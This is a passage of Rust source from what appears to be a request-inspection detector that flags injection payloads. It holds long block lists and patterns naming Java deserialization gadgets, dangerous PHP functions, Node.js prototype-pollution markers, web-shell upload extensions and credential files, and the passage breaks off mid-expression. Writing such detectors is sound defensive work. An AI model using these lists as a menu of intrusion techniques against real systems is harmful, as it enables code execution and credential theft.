        Some(Word::Ordinary) => {
            option(rest)
                || path(rest)
                || (w == b"ps" && ps_options(rest))
                || later_system_argument(rest)
                // `find . -name x`: the working directory, then an option.
                || rest.starts_with(b". -")
        }
        None => false,
    }
}

/// A program that is no ordinary word at `i`, ending the command or
/// followed by a space (`ifconfig` in `$ifconfig`).
fn expanded_program(s: &[u8], i: usize) -> bool {
    let mut word = [0u8; 24];
    read_word(s, i, &mut word).is_some_and(|(len, j)| {
        commands::lookup(&word[..len]) == Some(Word::Program)
            && (ends_command(s.get(j).copied()) || s.get(j) == Some(&b' '))
    })
}

/// Programs that print the file they are given.
const FILE_READERS: &[&[u8]] = &[
    b"cat", b"tac", b"head", b"tail", b"more", b"less", b"nl", b"strings", b"type", b"xxd", b"od",
];

/// The argument is one file name with a short extension (`x.txt`,
/// `app.log`, `id_rsa.pub`) and nothing after it.
fn file_name(rest: &[u8]) -> bool {
    let Some(dot) = rest.iter().rposition(|&b| b == b'.') else {
        return false;
    };
    let ext = &rest[dot + 1..];
    dot > 0
        && (1..=4).contains(&ext.len())
        && ext.iter().all(u8::is_ascii_alphanumeric)
        && rest[..dot]
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'/'))
}

/// A shell assignment at `i` followed by a space (`VAR=xyz `, `a='x y' `,
/// `LD_PRELOAD=/tmp/x.so `): where the next word starts.
fn assignment(s: &[u8], i: usize) -> Option<usize> {
    let name = s
        .get(i..)?
        .iter()
        .take(32)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    if name == 0 || s[i].is_ascii_digit() || s.get(i + name) != Some(&b'=') {
        return None;
    }
    let mut k = i + name + 1;
    match s.get(k) {
        Some(&q @ (b'\'' | b'"')) => {
            k += 1 + s[k + 1..].iter().take(64).position(|&b| b == q)? + 1;
        }
        _ => {
            k += s[k..]
                .iter()
                .take(64)
                .take_while(|&&b| !matches!(b, b' ' | b';' | b'|' | b'&' | b'\n'))
                .count();
        }
    }
    (s.get(k) == Some(&b' ')).then_some(k + 1)
}

/// Windows `net` and `reg` with their verbs (`net user x y /add`,
/// `reg add "hklm\..."`): both are ordinary words alone.
fn windows_verb(w: &[u8], rest: &[u8]) -> bool {
    let verbs: &[&[u8]] = match w {
        b"net" => &[
            b"user ",
            b"users ",
            b"localgroup ",
            b"group ",
            b"view",
            b"share",
            b"use ",
            b"start ",
            b"stop ",
            b"accounts",
            b"session",
            b"config ",
        ],
        b"reg" => &[b"add ", b"query ", b"delete ", b"save ", b"export "],
        _ => return false,
    };
    // `localgroup` is no English word: any group named after it.
    if w == b"net" && rest.starts_with(b"localgroup ") {
        return true;
    }
    // With a switch (`/add`, `/v`), a registry root, or nothing after.
    let line = &rest[..rest.len().min(200)];
    verbs.iter().any(|v| rest.starts_with(v))
        && (!line.trim_ascii_end().contains(&b' ')
            || find(line, b" /").is_some()
            || find(line, b"hk").is_some())
}

/// `cmd.exe` control flow: `for [/f "opts"] %x in (set) do command` and
/// `if [/i] [not] exist|defined|errorlevel ...`, `if %a% equ %b% ...`,
/// `if "%x%"=="y" ...`. Neither reads as English.
fn windows_batch(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"for ")) {
        let at = from + p;
        from = at + 4;
        if at > 0 && s[at - 1].is_ascii_alphanumeric() {
            continue;
        }
        let head = &s[at..s.len().min(at + 120)];
        if let (Some(var), Some(set)) = (find(head, b"%"), find(head, b" in ")) {
            let close = find(&head[set..], b")").map(|c| set + c);
            if var < set
                && head.get(set + 4) == Some(&b'(')
                && close.is_some_and(|c| matches!(head.get(c + 1..c + 4), Some(b" do" | b"do ")))
            {
                return true;
            }
        }
    }
    // `if` opening the value or a command after a separator
    // (`x&&if errorlevel 0 whoami`); each occurrence is read once, at most
    // 120 bytes, and the first 16 after separators at most (a constant
    // cost per field: `;if a==b ;if a==b ...` is read 16 times, not once
    // per 9 bytes).
    let mut from = 0;
    let mut read = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"if ")) {
        let at = from + p;
        from = at + 3;
        let before = s[..at].iter().rev().find(|&&b| b != b' ').copied();
        if before.is_none() || matches!(before, Some(b'&' | b'|' | b';' | b'\n' | b'(')) {
            if batch_if(&s[at + 3..s.len().min(at + 123)]) {
                return true;
            }
            read += 1;
            if read == 16 {
                break;
            }
        }
    }
    false
}

/// The rest of a `cmd` `if` after `if `.
fn batch_if(mut rest: &[u8]) -> bool {
    // `/i` (case-insensitive compare) is cmd.exe's alone.
    if rest.starts_with(b"/i ") {
        return true;
    }
    let negated = rest.starts_with(b"not ");
    rest = rest.strip_prefix(b"not ").unwrap_or(rest);
    if c_condition(rest) {
        return false;
    }
    // `exist` takes a path, `errorlevel` and `cmdextversion` a number,
    // `defined` a variable then a command with cmd syntax.
    let arg = |t: &[u8]| {
        let a = rest.get(t.len()..).unwrap_or(&[]);
        let token = &a[..a.iter().position(|&b| b == b' ').unwrap_or(a.len())];
        (token, &a[token.len()..])
    };
    if rest.starts_with(b"exist ") {
        let (token, _) = arg(b"exist ");
        if token
            .iter()
            .any(|&b| matches!(b, b'.' | b'\\' | b'/' | b'%' | b'"' | b':'))
        {
            return true;
        }
    }
    for t in [b"errorlevel " as &[u8], b"cmdextversion "] {
        if rest.starts_with(t) && arg(t).0.first().is_some_and(u8::is_ascii_digit) {
            return true;
        }
    }
    if rest.starts_with(b"defined ") {
        let (_, tail) = arg(b"defined ");
        if tail.iter().any(|&b| matches!(b, b'(' | b'%' | b'=' | b'&')) {
            return true;
        }
    }
    // `if exist foo echo`, `if defined x echo y`: the operand, then a
    // command (`exist` and `defined` after `if` are not English).
    for t in [b"exist " as &[u8], b"defined "] {
        if rest.starts_with(t) {
            let (_, tail) = arg(t);
            if tail.first() == Some(&b' ') && runs_command(&tail[1..]) {
                return true;
            }
        }
    }
    let head = &rest[..rest.len().min(60)];
    const OPS: &[&[u8]] = &[b" equ ", b" neq ", b" lss ", b" leq ", b" gtr ", b" geq "];
    if OPS.iter().any(|op| find(head, op).is_some())
        || (find(head, b"==").is_some()
            && head.iter().any(|&b| matches!(b, b'%' | b'"' | b'[' | b'{')))
    {
        return true;
    }
    // `if a==a echo x`, `if not (1)==(2) echo`: one token comparing with
    // `==`, then a command or a parenthesised block (`if (a==b) {` and
    // `if a==b:` are code, `if a == b then` prose).
    let token = rest.iter().take_while(|&&b| b != b' ').count();
    find(&rest[..token], b"==").is_some_and(|e| e > 0 && e + 2 < token)
        && rest.get(token) == Some(&b' ')
        && !rest[..token].ends_with(b":")
        && (rest.first() != Some(&b'(') || negated)
        && (rest.get(token + 1) == Some(&b'(') || runs_command(&rest[token + 1..]))
}

/// The text starts with a program name that ends there or takes an argument.
fn runs_command(t: &[u8]) -> bool {
    let mut word = [0u8; 24];
    read_word(t, 0, &mut word).is_some_and(|(len, j)| {
        commands::lookup(&word[..len]).is_some()
            && (ends_command(t.get(j).copied()) || t.get(j) == Some(&b' '))
    })
}

/// `cmd.exe` control flow as cmd reads it: `^` escapes and quotes dropped,
/// `,` `;` and `=` as spaces, no space needed before `/` or `(`
/// (`f^or /f %i in(x)do`, `for,/l,%x,in,(1,1,9),do`, `if("a"=="a")`).
/// Only for values that hold one of those bytes; at most 1 KiB is read.
fn cmd_reading(s: &[u8]) -> bool {
    if !s
        .iter()
        .any(|&b| matches!(b, b'^' | b',' | b'(' | b'"' | b'\'' | b'='))
    {
        return false;
    }
    // Session 13 (clean-traffic cost): `for` needs its `%` variable and
    // `if` must open the value as cmd reads it, so a value with neither is
    // not rewritten at all (a sentence with a comma or an apostrophe is
    // the common field this skips).
    let lead = s.iter().find(|&&b| {
        !matches!(
            b,
            b' ' | b'&' | b'|' | b'\n' | b'^' | b'"' | b'\'' | b',' | b';' | b'=' | b'\t'
        )
    });
    if lead != Some(&b'i') && memchr::memchr(b'%', s).is_none() {
        return false;
    }
    let mut buf = [0u8; 1024];
    let mut n = 0;
    for (k, &b) in s.iter().take(buf.len()).enumerate() {
        // `==` is cmd's comparison, a lone `=` a delimiter.
        let pair = b == b'=' && (s.get(k + 1) == Some(&b'=') || k > 0 && s[k - 1] == b'=');
        let c = match b {
            b'^' | b'"' | b'\'' => continue,
            b'=' if pair => b,
            b',' | b';' | b'=' | b'\t' => b' ',
            _ => b,
        };
        if c == b' ' && n > 0 && buf[n - 1] == b' ' {
            continue;
        }
        if matches!(c, b'/' | b'(') && n > 0 && buf[n - 1] == b' ' {
            n -= 1;
        }
        buf[n] = c;
        n += 1;
    }
    let t = &buf[..n];
    // `for[/x ...] %v in(set)do`: the set and `do` glued or spaced.
    let mut from = 0;
    while let Some(p) = t.get(from..).and_then(|r| find(r, b"for")) {
        let at = from + p;
        from = at + 3;
        if at > 0 && t[at - 1].is_ascii_alphanumeric() {
            continue;
        }
        let head = &t[at + 3..t.len().min(at + 160)];
        if !matches!(head.first(), Some(b' ' | b'/')) {
            continue;
        }
        let (Some(var), Some(set)) = (find(head, b" %"), find(head, b" in(")) else {
            continue;
        };
        if var < set
            && find(&head[set..], b")").is_some_and(|c| {
                let rest = &head[set + c + 1..];
                rest.starts_with(b"do") || rest.starts_with(b" do")
            })
        {
            return true;
        }
    }
    // `if(...)`, `if /i`: the value, or a command after a separator.
    let mut i = 0;
    while matches!(t.get(i), Some(b' ' | b'&' | b'|' | b'\n')) {
        i += 1;
    }
    let Some(rest) = t.get(i..).and_then(|r| r.strip_prefix(b"if")) else {
        return false;
    };
    if rest.starts_with(b"/i ") || rest.starts_with(b"/i(") {
        return true;
    }
    let head = &rest[..rest.len().min(80)];
    rest.first() == Some(&b'(')
        && [
            b"==" as &[u8],
            b" equ ",
            b" neq ",
            b" lss ",
            b" leq ",
            b" gtr ",
            b" geq ",
        ]
        .iter()
        .any(|op| find(head, op).is_some())
        && !c_condition(rest)
}

/// `(a==b) {`, `(x == y) return`: a C-family condition after `if`, where
/// cmd runs a command after the condition.
fn c_condition(rest: &[u8]) -> bool {
    rest.first() == Some(&b'(')
        && close_group(rest, 0, &mut NextCloser::default()).is_some_and(|e| {
            let after = rest[e..].trim_ascii_start();
            after.first() == Some(&b'{') || after.starts_with(b"return")
        })
}

/// Java classes that deserialization gadget chains, expression languages
/// and JNDI payloads name: dangerous in any request.
const JAVA_GADGETS: &[&[u8]] = &[
    b"java.lang.reflect",
    b"java.lang.classloader",
    b"java.lang.system",
    b"java.lang.thread",
    b"java.lang.class",
    b"java.net.urlclassloader",
    b"java.net.socket",
    b"java.rmi.",
    b"java.beans.",
    b"javax.script",
    b"javax.naming",
    b"javax.management",
    b"com.sun.rowset",
    b"com.sun.org.apache",
    b"com.sun.jndi",
    b"org.apache.commons.collections",
    b"org.apache.xalan",
    b"org.apache.commons.beanutils",
    b"org.codehaus.groovy.runtime",
    b"org.springframework.beans.factory",
    b"org.mozilla.javascript",
    b"com.opensymphony.xwork2",
    b"ognl.ognl",
    b"org.omg.",
    b"sun.misc.",
    b"sun.reflect.",
    b"bsh.interpreter",
    b"processbuilder",
    b"invokertransformer",
    b"chainedtransformer",
    b"instantiatetransformer",
    b"constanttransformer",
    b"templatesimpl",
    b"jdbcrowsetimpl",
    b"xmldecoder",
    b"scriptenginemanager",
    b"annotationinvocationhandler",
    b"com.alibaba.fastjson",
    b"org.apache.tomcat.dbcp",
    b"com.mchange.v2",
    // Session 12 (CRS 944120/944130's lists): the other functor gadgets,
    // bytecode and OGNL internals, template engines and XML readers that
    // payloads instantiate (`freemarker.template.utility.Execute`,
    // `org.dom4j.io.SAXReader` for XXE).
    b"clonetransformer",
    b"instantiatefactory",
    b"prototypeclonefactory",
    b"prototypeserializationfactory",
    b"whileclosure",
    b"javassist",
    b"ognlcontext",
    b"ognlutil",
    b"propertyutilsbean",
    b"freemarker.template",
    b"freemarker.core",
    b"freemarker.ext.",
    b"org.xml.sax",
    b"org.dom4j.io",
    b"org.jdom2.input",
];

/// A value (a JSON key, a header) that is nothing but a class of the JDK's
/// own packages (`java.io.File`): what a polymorphic deserializer
/// instantiates. ([`JAVA_GADGETS`], gadget class names anywhere, are met
/// in `code.rs`'s pass.)
fn java_class(s: &[u8]) -> bool {
    // `java.Runtime`, `java.lang.String ... Runtime`: the JDK named, then
    // the class that runs programs.
    if let Some(p) = find(s, b"java.") {
        if find(&s[p..s.len().min(p + 256)], b"runtime").is_some() {
            return true;
        }
    }
    // The value, or either side of one `=` (`java.lang.Runtime=x` in a
    // text body, `test=java.io.Reader`).
    let t = s.trim_ascii();
    let mut sides = t.splitn(3, |&b| b == b'=');
    let (a, b, more) = (sides.next(), sides.next(), sides.next());
    more.is_none() && [a, b].into_iter().flatten().any(jdk_class)
}

fn jdk_class(t: &[u8]) -> bool {
    // Packages that reach the system (files, network, processes,
    // reflection, naming); `java.util.List` or `java.time.Instant` is a type.
    let Some(rest) = [
        b"java.lang." as &[u8],
        b"java.io.",
        b"java.nio.",
        b"java.net.",
        b"java.rmi.",
        b"java.beans.",
        b"java.security.",
        b"javax.",
        b"jdk.",
        b"sun.",
        b"com.sun.",
        b"org.apache.commons.",
    ]
    .iter()
    .find_map(|p| t.strip_prefix(*p)) else {
        return t == b"org.apache.commons";
    };
    !rest.is_empty()
        && rest
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'$'))
}

/// PHP functions that run code, read files or open connections: a value
/// that is a call to one of them is code (`system(whoami)`,
/// `('system')('id')`, `fsockopen()`); session 12 (CRS 933160's list):
/// the image writers (`imagepng(`, `imagegif(`), `filegroup(`, and the
/// PHP-only calls probes make (`intval(`, `is_a(`, `strip_tags(`). Sorted.
const PHP_FUNCTIONS: &[&[u8]] = &[
    b"array_map",
    b"assert",
    b"assert_options",
    b"base64_decode",
    b"bzdecompress",
    b"call_user_func",
    b"call_user_func_array",
    b"chr",
    b"create_function",
    b"curl_exec",
    b"curl_init",
    b"dl",
    b"eval",
    b"exec",
    b"extract",
    b"fgets",
    b"file",
    b"file_exists",
    b"file_get_contents",
    b"file_put_contents",
    b"filegroup",
    b"fopen",
    b"fpassthru",
    b"fputs",
    b"fread",
    b"fsockopen",
    b"fwrite",
    b"get_defined_functions",
    b"get_defined_vars",
    b"getenv",
    b"glob",
    b"gzdecode",
    b"gzinflate",
    b"gzuncompress",
    b"highlight_file",
    b"imagegif",
    b"imagejpeg",
    b"imagepng",
    b"imagewbmp",
    b"imagexbm",
    b"include",
    b"include_once",
    b"ini_get",
    b"ini_set",
    b"intval",
    b"is_a",
    b"md5",
    b"mkdir",
    b"opendir",
    b"parse_str",
    b"passthru",
    b"pcntl_exec",
    b"pfsockopen",
    b"php_uname",
    b"phpinfo",
    b"phpversion",
    b"popen",
    b"posix_getegid",
    b"posix_geteuid",
    b"posix_getpwuid",
    b"posix_getuid",
    b"posix_kill",
    b"preg_replace",
    b"proc_open",
    b"putenv",
    b"readdir",
    b"readfile",
    b"require",
    b"require_once",
    b"rmdir",
    b"scandir",
    b"shell_exec",
    b"show_source",
    b"str_rot13",
    b"strip_tags",
    b"strrev",
    b"substr",
    b"symlink",
    b"system",
    b"tmpfile",
    b"unlink",
    b"unpack",
    b"unserialize",
    b"usort",
    b"var_dump",
];

/// Names that are English words too: called only without a space before `(`.
const PHP_WORDS: &[&[u8]] = &[
    b"system", b"exec", b"eval", b"assert", b"include", b"require", b"file", b"glob",
];

/// Code markers matched in one pass: PHP (superglobals, `[php]` blocks,
/// variable variables, SSI exec); object construction by YAML tags;
/// Node.js (node-serialize's function marker, native bindings, the process
/// object by index, prototype pollution).
const PHP_ANYWHERE: &[&[u8]] = &[
    b"$_server[",
    b"$_get[",
    b"$_post[",
    b"$_cookie[",
    b"$_request[",
    b"$_files[",
    b"$_env[",
    b"$_session[",
    b"$globals[",
    b"[php]",
    b"[/php]",
    b"[\\php]",
    b"<!--#exec",
    // The other SSI directives (session 11): they print the server's
    // environment, set variables or include files (`<!--#printenv -->`,
    // `<!--#echo var="DOCUMENT_ROOT" -->`); an editor's `<!--#region -->`
    // marker is none of them.
    b"<!--#printenv",
    b"<!--#echo var",
    b"<!--#set var",
    b"<!--#config ",
    b"<!--#include virtual",
    b"<!--#include file",
    b"<!--#fsize ",
    b"<!--#flastmod ",
    b"${'",
    b"${@",
    b"{${",
    b"${\"",
    b"$shell -",
    b"${shell} -",
    // YAML deserializers that construct objects (PyYAML, SnakeYAML, Psych).
    b"!!python/",
    b"!!ruby/",
    b"!!javax.",
    b"!!java.",
    b"!!com.sun.",
    b"_$$nd_func$$_",
    b"process.binding(",
    b"process.spawn(",
    b"process[",
    b"process.env[",
    b"__proto__",
    b"constructor.prototype",
    // Node.js reached through indirection: serialized functions, the
    // constructor chain, React/Next server references (`$1:Module:prototype`),
    // dynamic `require`, indirect console calls.
    b"__js_function",
    b"this.constructor",
    b"constructor:constructor",
    b"module:prototype",
    b":__proto__:",
    b"module.exports=",
    b"module.exports =",
    // The Function constructor given a source string (`Function("return
    // process")()`); a function literal takes names, never a string.
    b"function(\"",
    b"function('",
    b"function(`",
    b"require[",
    b"require.main",
    b"require.cache[",
    b"process.dlopen(",
    b"process.kill(",
    b"process.setuid(",
    b"global.process",
    b"globalthis.process",
    b".call(this,",
    b"constructor[prototype]",
    b"[constructor][prototype]",
    // Node objects reached by a string property (`console['log']`) or
    // their loader's internals (`process[` and `require[` are above).
    b"console[\"",
    b"console['",
    b"require.resolve(",
    b"require.extensions",
    b"process.execpath",
    b"string.fromcharcode(",
    b"new function(",
    b"new function (",
];

/// PHP code: superglobals, `[php]` blocks, an open tag followed by code,
/// a serialized object (`O:8:"stdClass":1:{...}`, object injection), a
/// variable called as a function (`$_(3)`, `$__['o'](5)`, `${'a'}(1)`), a
/// value that is a call to a dangerous function.
fn php_code(s: &[u8]) -> bool {
    if let Some(p) = find(s, b"<?") {
        if matches!(s.get(p + 2), None | Some(b' ' | b'\n')) {
            return true;
        }
        // `<?xml` is a declaration only when attributes follow
        // (`<?xml version=`); `<?xml :echo 1;` opens PHP (short tags).
        if s.get(p + 2..p + 6) == Some(b"xml ")
            && !s.get(p + 6).is_some_and(u8::is_ascii_alphabetic)
        {
            return true;
        }
    }
    serialized_object(s)
        || quoted_variable_variable(s)
        || variable_call(s)
        || php_call_value(s)
        || php_call_segment(s)
}

/// PHP's request, server and global variables, by name (also the code
/// injection detector's, `code.rs`).
pub(super) const SUPERGLOBALS: &[&[u8]] = &[
    b"$_cookie",
    b"$_env",
    b"$_files",
    b"$_get",
    b"$_post",
    b"$_request",
    b"$_server",
    b"$_session",
    b"$globals",
    b"$http_cookie_vars",
    b"$http_env_vars",
    b"$http_get_vars",
    b"$http_post_files",
    b"$http_post_vars",
    b"$http_raw_post_data",
    b"$http_request_vars",
    b"$http_response_header",
    b"$http_server_vars",
    b"$http_session_vars",
    b"$php_errormsg",
];

/// A value that is one PHP superglobal (`$_GET`, `$GLOBALS`,
/// `$HTTP_RAW_POST_DATA`, with a `;` after it at most): the probe of
/// whether a value reaches PHP code that evaluates it; indexed ones
/// (`$_SERVER[`) are flagged anywhere.
fn superglobal_alone(s: &[u8]) -> bool {
    let t = s.trim_ascii();
    let t = t.strip_suffix(b";").unwrap_or(t);
    SUPERGLOBALS.contains(&t)
}

/// `$ {'name'}`, `$ { "a"."b" }`: a variable named by a string, with the
/// spaces PHP allows between `$` and `{` (`${'` alone is in the needles).
fn quoted_variable_variable(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'$', t)) {
        let at = from + p;
        from = at + 1;
        let mut k = at + 1;
        let mut spaced = false;
        while s.get(k) == Some(&b' ') {
            k += 1;
            spaced = true;
        }
        if !spaced || s.get(k) != Some(&b'{') {
            continue;
        }
        k += 1;
        while s.get(k) == Some(&b' ') {
            k += 1;
        }
        if matches!(s.get(k), Some(b'\'' | b'"')) {
            return true;
        }
    }
    false
}

fn serialized_object(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b':', t)) {
        let at = from + p;
        from = at + 1;
        if at == 0 || !matches!(s[at - 1], b'o' | b'c') {
            continue;
        }
        if at >= 2 && (s[at - 2].is_ascii_alphanumeric() || s[at - 2] == b'_') {
            continue;
        }
        let digits = s[at + 1..]
            .iter()
            .take(8)
            .take_while(|b| b.is_ascii_digit())
            .count();
        if digits > 0 && s.get(at + 1 + digits..at + 3 + digits) == Some(b":\"") {
            return true;
        }
    }
    false
}

/// `$name(`, `$name[...](`, `${...}(`; spaces before `(` only when the
/// variable opens the value (`$function (23)`).
fn variable_call(s: &[u8]) -> bool {
    let opening = s.iter().take_while(|&&b| b == b'@' || b == b' ').count();
    let mut closer = NextCloser::default();
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'$', t)) {
        let at = from + p;
        from = at + 1;
        // `$$b(2)`: one more `$` at most is read, so `$$$$...` stays linear.
        if s.get(at + 1) == Some(&b'$') && s.get(at + 2) == Some(&b'$') {
            continue;
        }
        let mut k = at + 1;
        if s.get(k) == Some(&b'$') {
            k += 1;
        }
        match s.get(k) {
            Some(b'{') => match close_group(s, k, &mut closer) {
                Some(e) => k = e,
                None => continue,
            },
            Some(b'a'..=b'z' | b'_') => {
                k += s[k..]
                    .iter()
                    .take(64)
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
            }
            _ => continue,
        }
        for _ in 0..4 {
            match s.get(k) {
                Some(b'[' | b'{') => match close_group(s, k, &mut closer) {
                    Some(e) => k = e,
                    None => break,
                },
                _ => break,
            }
        }
        // Spaces and PHP comments before `(` only when the variable opens
        // the value (`$a //x\n()`).
        // A PHP comment between them wherever the variable is (`$a #x\n()`).
        let opens = at <= opening;
        let spaces = s[k..].iter().take_while(|&&b| b == b' ').count();
        let comment = matches!(s.get(k + spaces), Some(b'#'))
            || s.get(k + spaces..k + spaces + 2) == Some(b"//");
        if s.get(k) == Some(&b'(') || ((opens || comment) && call_follows(s, k)) {
            return true;
        }
    }
    false
}

/// Where the next closing bracket (`]`, `}`, `)`) is, read forward only: a
/// field of groups that never close (`${a:${a:...`) is read once, not 48
/// bytes per opener.
#[derive(Default)]
struct NextCloser {
    /// No closer in `from..clear`; `found`: `clear` is one.
    from: usize,
    clear: usize,
    found: bool,
}

impl NextCloser {
    /// The first closer in `from..from + reach`, if any.
    fn find(&mut self, s: &[u8], from: usize, reach: usize) -> Option<usize> {
        let end = s.len().min(from + reach);
        if from < self.from || from > self.clear {
            // Behind what was read (a group inside the last one): start
            // again there.
            *self = NextCloser {
                from,
                clear: from,
                found: false,
            };
        }
        if !self.found && self.clear < end {
            // Read ahead in long strides (the next openers ask about the
            // bytes after this one's reach).
            let ahead = s.len().min(end + 512);
            match memchr::memchr3(b']', b'}', b')', &s[self.clear..ahead]) {
                Some(p) => {
                    self.clear += p;
                    self.found = true;
                }
                None => self.clear = ahead,
            }
        }
        (self.found && self.clear < end).then_some(self.clear)
    }
}

/// The index after the bracket closing the one at `open` (nesting allowed,
/// at most 48 bytes). No closer within reach: known without reading them.
fn close_group(s: &[u8], open: usize, closer: &mut NextCloser) -> Option<usize> {
    closer.find(s, open + 1, 47)?;
    let mut depth = 0;
    for (k, &b) in s.iter().enumerate().skip(open).take(48) {
        match b {
            b'[' | b'{' | b'(' => depth += 1,
            b']' | b'}' | b')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(k + 1);
                }
            }
            _ => {}
        }
    }
    None
}

fn php_call_value(s: &[u8]) -> bool {
    let mut i = 0;
    while matches!(s.get(i), Some(b'(' | b'\'' | b'"' | b' ' | b'@')) {
        i += 1;
    }
    let len = s[i..]
        .iter()
        .take(32)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    let name = &s[i..i + len];
    if len == 0 || PHP_FUNCTIONS.binary_search(&name).is_err() {
        return false;
    }
    let mut k = i + len;
    let mut spaced = false;
    let mut quoted = false;
    let mut commented = false;
    while let Some(&b) = s.get(k) {
        match b {
            b' ' | b'\n' => spaced |= !quoted,
            b'\'' | b'"' | b')' => quoted = true,
            // `exec#\n (x)`, `exec //x\n(x)`: a comment before the
            // parenthesis is PHP, never prose.
            b'#' | b'/' if b == b'#' || s.get(k + 1) == Some(&b'/') => {
                match s[k..].iter().take(64).position(|&c| c == b'\n') {
                    Some(nl) => k += nl,
                    None => return false,
                }
                commented = true;
            }
            _ => break,
        }
        k += 1;
    }
    // A call: the name is followed by `(` (a name that ends the value is
    // none, and the checks below read past the parenthesis).
    if s.get(k) != Some(&b'(') {
        return false;
    }
    // Code arguments, or none at all (`exec ()`, `file\n()`).
    let code_arg = matches!(s.get(k + 1), Some(b'$' | b'\'' | b'"' | b')'))
        || (matches!(name, b"exec" | b"eval") && single_token_call(s, k));
    commented || !(spaced && !code_arg && PHP_WORDS.contains(&name))
}

/// `exec (blah)`, `eval (x)` as the whole value: the call with one token
/// as its argument and nothing after (`exec` and `eval` are the PHP words
/// no label reads as: "System (default)" and "File (optional)" stay text).
fn single_token_call(s: &[u8], open: usize) -> bool {
    let Some(arg) = s.get(open + 1..) else {
        return false;
    };
    let len = arg
        .iter()
        .take(64)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'/'))
        .count();
    len > 0 && arg.get(len..) == Some(b")")
}

/// A path whose last segment is a call to a PHP function (`/x/unpack()`).
fn php_call_segment(s: &[u8]) -> bool {
    s.first() == Some(&b'/')
        && s.ends_with(b")")
        && s.iter()
            .rposition(|&b| b == b'/')
            .is_some_and(|p| p > 0 && php_call_value(&s[p + 1..]))
}

/// Extensions a web server runs (PHP, ASP, JSP, CGI, SSI) or reads as its
/// configuration: an uploaded file named so is a web shell upload.
const SCRIPT_EXTENSIONS: &[&[u8]] = &[
    b"php",
    b"php2",
    b"php3",
    b"php4",
    b"php5",
    b"php6",
    b"php7",
    b"php8",
    b"phtml",
    b"pht",
    b"phps",
    b"phpt",
    b"phar",
    b"pgif",
    b"inc",
    b"asp",
    b"aspx",
    b"asa",
    b"cer",
    b"ashx",
    b"asmx",
    b"axd",
    b"jsp",
    b"jspx",
    b"jspf",
    b"jsw",
    b"jsv",
    b"cfm",
    b"cgi",
    b"pl",
    b"shtml",
    b"shtm",
    b"stm",
    b"htaccess",
    b"config",
    b"user.ini",
];

/// Names an upload must never take: server configuration files, PHP session
/// files (`sess_<id>`, session poisoning), credentials.
const RESERVED_FILE_NAMES: &[&[u8]] = &[
    b".htaccess",
    b".htpasswd",
    b"web.config",
    b".user.ini",
    b"php.ini",
    b".boto",
    b".env",
    b"wp-config",
    b"authorized_keys",
    b".bashrc",
    b".profile",
    // Shell, login and tool start-up files, keys and credentials a server
    // account reads (eighth round): an upload that replaces one runs code
    // or grants access at the next login or tool run.
    b".bash_profile",
    b".bash_login",
    b".bash_logout",
    b".zshrc",
    b".zprofile",
    b".zshenv",
    b".cshrc",
    b".tcshrc",
    b".kshrc",
    b".login",
    b".rhosts",
    b".shosts",
    b".netrc",
    b".forward",
    b".pgpass",
    b".my.cnf",
    b".npmrc",
    b".pypirc",
    b".gitconfig",
    b".vimrc",
    b".exrc",
    b".wgetrc",
    b".curlrc",
    b".pam_environment",
    b".xinitrc",
    b".xsession",
    b"id_rsa",
    b"id_dsa",
    b"id_ecdsa",
    b"id_ed25519",
    b".htdigest",
    b".htgroup",
    b"httpd.conf",
    b"apache2.conf",
    b"nginx.conf",
    b"lighttpd.conf",
    b"global.asa",
    b"applicationhost.config",
    // Session 11: more files read at a login or a tool's start.
    b".inputrc",
    b".procmailrc",
    b".emacs",
    b".xauthority",
    b".k5login",
    b"hosts.equiv",
    b"tomcat-users.xml",
];

/// An uploaded file's name (multipart `filename=`, `X-File-Name`) that the
/// web server would run: a script extension, also with the tricks that
/// Windows and some parsers strip (`a.php.`, `a.php  `, `a. php`).
pub fn script_file_name(s: &[u8]) -> bool {
    let mut buf = [0u8; 128];
    let mut n = 0;
    for &b in s.iter().take(buf.len()) {
        if !matches!(b, b' ' | b'"' | b'\'') {
            buf[n] = b;
            n += 1;
        }
    }
    let mut name = &buf[..n];
    while let Some(x) = name.strip_suffix(b".") {
        name = x;
    }
    let base = name
        .iter()
        .rposition(|&b| b == b'/' || b == b'\\')
        .map_or(name, |p| &name[p + 1..]);
    if base.starts_with(b"sess_") || RESERVED_FILE_NAMES.iter().any(|r| base.starts_with(r)) {
        return true;
    }
    SCRIPT_EXTENSIONS.iter().any(|ext| {
        base.len() > ext.len() + 1
            && base.ends_with(ext)
            && base[base.len() - ext.len() - 1] == b'.'
    })
}

/// Shell globs that spell a path (`/bi[n]/ba?h`, `/[e//]tc/[p]asswd`): the
/// field with `[`, `]` and repeated `/` removed is matched again for shells
/// and system files.
fn deglobbed(s: &[u8]) -> bool {
    let Some(open) = memchr::memchr(b'[', s) else {
        return false;
    };
    let from = s[..open]
        .iter()
        .rposition(|&b| b == b' ' || b == b'=')
        .map_or(0, |p| p + 1);
    let mut buf = [0u8; 256];
    let mut n = 0;
    let mut in_class = false;
    for &b in s[from..].iter().take(512) {
        if n == buf.len() {
            break;
        }
        // A `/` inside a bracket expression matches nothing (`/[e///]tc`
        // is `/etc`).
        in_class = (in_class || b == b'[') && b != b']';
        if b == b'[' || b == b']' || (b == b'/' && (in_class || n > 0 && buf[n - 1] == b'/')) {
            continue;
        }
        buf[n] = b;
        n += 1;
    }
    let t = &buf[..n];
    // The system's own top directories spelled by a glob (`/[e///]tc`).
    let root = [
        b"/etc" as &[u8],
        b"/bin",
        b"/sbin",
        b"/proc",
        b"/dev",
        b"/root",
        b"/usr/bin",
    ]
    .iter()
